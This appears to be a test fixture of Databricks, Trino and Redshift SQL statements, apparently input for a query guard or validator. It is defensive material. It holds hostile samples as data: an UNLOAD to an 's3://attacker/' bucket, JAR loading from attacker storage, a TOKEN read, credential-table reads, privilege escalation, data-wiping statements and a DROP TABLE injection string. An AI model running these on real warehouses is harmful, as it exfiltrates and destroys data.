databricks	SELECT java_method('java.lang.System', 'getenv', 'TOKEN')
databricks	SELECT secret('scope', 'key')
databricks	SELECT current_user()
databricks	SELECT is_account_group_member('admins')
databricks	SELECT http_request(conn => 'c', method => 'GET', path => '/')
databricks	SELECT ai_query('endpoint', 'leak')
databricks	SELECT input_file_name() FROM users
databricks	SELECT * FROM system.access.audit
databricks	SELECT * FROM other_catalog.sales.users
databricks	SELECT * FROM information_schema.tables
databricks	COPY INTO users FROM 's3://bucket/'
databricks	LIST 's3://bucket/'
databricks	ADD JAR 's3://attacker/x.jar'
databricks	CREATE FUNCTION f AS 'com.attacker.Evil' USING JAR 's3://x.jar'
databricks	SET spark.databricks.something = true
databricks	RESET
databricks	USE CATALOG prod
databricks	OPTIMIZE users
databricks	VACUUM users RETAIN 0 HOURS
databricks	REFRESH TABLE users
databricks	CACHE TABLE users
databricks	MERGE INTO users USING s ON users.id = s.id WHEN MATCHED THEN DELETE
databricks	INSERT OVERWRITE users SELECT * FROM users LIMIT 0
databricks	SELECT tax_id FROM members
databricks	SELECT * FROM payroll

-- Trino: system tables, hidden metadata tables, session, procedures, passthrough queries
trino	SELECT * FROM system.runtime.queries
trino	SELECT * FROM system.runtime.nodes
trino	SELECT * FROM system.metadata.catalogs
trino	SELECT * FROM "users$partitions"
trino	SELECT * FROM "users$files"
trino	SELECT * FROM "users$snapshots"
trino	SELECT * FROM hive.other.users
trino	SELECT * FROM information_schema.tables
trino	SET SESSION query_max_execution_time = '7d'
trino	RESET SESSION query_max_execution_time
trino	SET ROLE admin
trino	CALL system.runtime.kill_query(query_id => 'q', message => 'x')
trino	CALL system.sync_partition_metadata('s', 't', 'FULL')
trino	SELECT * FROM TABLE(system.query(query => 'DELETE FROM users'))
trino	SELECT * FROM TABLE(exclude_columns(input => TABLE(members), columns => DESCRIPTOR(name)))
trino	PREPARE q FROM DELETE FROM users
trino	EXECUTE q
trino	EXECUTE IMMEDIATE 'DELETE FROM users'
trino	DEALLOCATE PREPARE q
trino	DESCRIBE users
trino	SHOW CATALOGS
trino	SHOW CREATE TABLE users
trino	EXPLAIN ANALYZE DELETE FROM users
trino	USE hive.other
trino	START TRANSACTION
trino	COMMIT
trino	SELECT current_user
trino	SELECT current_groups()
trino	CREATE TABLE x AS SELECT * FROM users
trino	INSERT INTO users SELECT * FROM users
trino	DELETE FROM users
trino	UPDATE users SET name = 'x'
trino	MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE
trino	SELECT tax_id FROM members
trino	SELECT * FROM payroll

-- Redshift: unload, copy, system tables, external schemas, session
redshift	UNLOAD ('SELECT * FROM users') TO 's3://attacker/' IAM_ROLE 'arn:aws:iam::1:role/r'
redshift	COPY users FROM 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/r'
redshift	SELECT * FROM stl_query
redshift	SELECT * FROM stv_sessions
redshift	SELECT * FROM svl_qlog
redshift	SELECT * FROM svv_table_info
redshift	SELECT * FROM sys_query_history
redshift	SELECT * FROM pg_user
redshift	SELECT * FROM pg_catalog.pg_shadow
redshift	SELECT * FROM information_schema.tables
redshift	SELECT * FROM other_db.public.users
redshift	SELECT current_user
redshift	SELECT user
redshift	SELECT current_setting('search_path')
redshift	SELECT pg_backend_pid()
redshift	SELECT pg_terminate_backend(123)
redshift	SET query_group TO 'superuser'
redshift	SET SESSION AUTHORIZATION 'admin'
redshift	SET statement_timeout TO 0
redshift	RESET ALL
redshift	CALL my_proc()
redshift	CREATE TEMP TABLE x AS SELECT * FROM users
redshift	CREATE EXTERNAL SCHEMA s FROM DATA CATALOG DATABASE 'd' IAM_ROLE 'r'
redshift	GRANT SELECT ON users TO PUBLIC
redshift	ANALYZE users
redshift	VACUUM users
redshift	LOCK users
redshift	INSERT INTO users VALUES (1)
redshift	DELETE FROM users
redshift	WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
redshift	SELECT 'a\'; DROP TABLE users; --'
redshift	SELECT tax_id FROM members
redshift	SELECT * FROM payroll
